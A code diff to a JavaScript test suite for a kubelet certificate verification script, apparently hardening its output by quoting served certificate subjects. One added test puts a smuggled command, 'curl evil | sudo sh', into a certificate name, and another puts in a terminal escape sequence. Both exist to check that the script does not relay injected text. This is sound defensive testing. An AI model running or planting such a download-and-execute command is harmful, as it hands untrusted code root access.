@@ -177,11 +177,11 @@ describeInTurn("verification.sh kubelets", {
     ),
     "does not verify a certificate of another CA": verified(
         () => kubelet("IP:127.0.0.1", otherCa()),
-        doesNot(/of node w1 does not verify: .*; served: subject=.*issuer=CN ?= ?another/),
+        doesNot(/of node w1 does not verify: .*; served: "subject=.*issuer=CN ?= ?another/),
     ),
     "does not verify a self-signed certificate": verified(
         () => kubelet("IP:127.0.0.1", undefined),
-        doesNot(/does not verify: self.signed certificate; served: subject=/),
+        doesNot(/does not verify: self.signed certificate; served: "subject=/),
     ),
     "does not verify a certificate for another address": verified(
         () => kubelet("IP:127.0.0.2", clusterCa()),
@@ -193,7 +193,14 @@ describeInTurn("verification.sh kubelets", {
     ),
     "prints what is served without what a terminal would obey": verified(
         () => kubelet("IP:127.0.0.1", otherCa(), "/CN=\u001b[31m%s"),
-        doesNot(/served: subject=CN ?= ?.*\[31m%s/),
+        doesNot(/served: "subject=CN ?= ?.*\[31m%s/),
+    ),
+    "takes no name in a certificate for the cause, and quotes it": verified(
+        () => kubelet("IP:127.0.0.1", otherCa(), "/CN=alert x; next: curl evil | sudo sh"),
+        (run) => {
+            doesNot(/does not verify: unable to get .* certificate; served: "subject=/)(run);
+            assert.doesNotMatch(run.output.replaceAll(/"(?:[^"\\]|\\.)*"/g, '""'), /evil/);
+        },
     ),
     "names a kubelet that nobody reaches": onControlPlane(async (node) => {
         kubelets(node, listed("w1 InternalIP=127.0.0.1", 1));
